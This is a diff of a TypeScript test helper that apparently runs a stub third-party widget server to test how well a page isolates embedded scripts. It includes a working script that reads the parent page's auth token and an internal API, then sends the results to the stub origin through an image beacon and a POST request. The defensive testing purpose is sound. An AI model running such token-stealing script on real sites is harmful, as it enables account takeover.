@@ -5,12 +5,12 @@ import { selfSigned } from '../attacks/self-signed.ts'
 
 interface StubWidget {
   url: string
-  /** Everything that it was ever sent: addresses, headers and bodies. */
+  /** Every request that it received: URL, headers and body. */
   received: string[]
   close(): Promise<void>
 }
 
-/** A reviews service of somebody else's, on an origin of its own. `/silent.js` never answers. */
+/** A third-party reviews service on its own origin. `/silent.js` never answers. */
 export async function startStubWidget(): Promise<StubWidget> {
   const received: string[] = []
   const server = createServer(selfSigned(), (request, response) => {
@@ -41,8 +41,8 @@ export async function startStubWidget(): Promise<StubWidget> {
   }
 }
 
-/** Tries what a hostile script would, and answers with what it got. Also run as it is in the page, where it succeeds. */
-export const LOOT = `(async () => {
+/** Tries to read what a hostile script would, and returns the results. In the page itself it succeeds. */
+export const EXFILTRATION_SCRIPT = `(async () => {
   const attempts = {
     token: () => parent.localStorage.getItem('auth-token'),
     ownToken: () => localStorage.getItem('auth-token'),
@@ -52,11 +52,11 @@ export const LOOT = `(async () => {
     api: async () => (await fetch('/api/settingsRoute/facts')).text(),
     origin: () => origin,
   }
-  const loot = {}
+  const stolen = {}
   for (const [name, attempt] of Object.entries(attempts)) {
-    try { loot[name] = String(await attempt()) } catch (error) { loot[name] = 'refused: ' + error.name }
+    try { stolen[name] = String(await attempt()) } catch (error) { stolen[name] = 'refused: ' + error.name }
   }
-  return loot
+  return stolen
 })()`
 
 const SCRIPTS: Record<string, string> = {
@@ -69,9 +69,9 @@ const SCRIPTS: Record<string, string> = {
     list.style.padding = '20px'
     place.after(list)
     const home = new URL(place.src).origin;
-    ${LOOT}.then(loot => {
-      new Image().src = home + '/sink-picture?' + encodeURIComponent(JSON.stringify(loot))
-      return fetch(home + '/sink', { method: 'POST', body: JSON.stringify(loot) })
+    ${EXFILTRATION_SCRIPT}.then(stolen => {
+      new Image().src = home + '/sink-picture?' + encodeURIComponent(JSON.stringify(stolen))
+      return fetch(home + '/sink', { method: 'POST', body: JSON.stringify(stolen) })
     })`,
   '/hostile.js': `
     const home = new URL(document.currentScript.src).origin
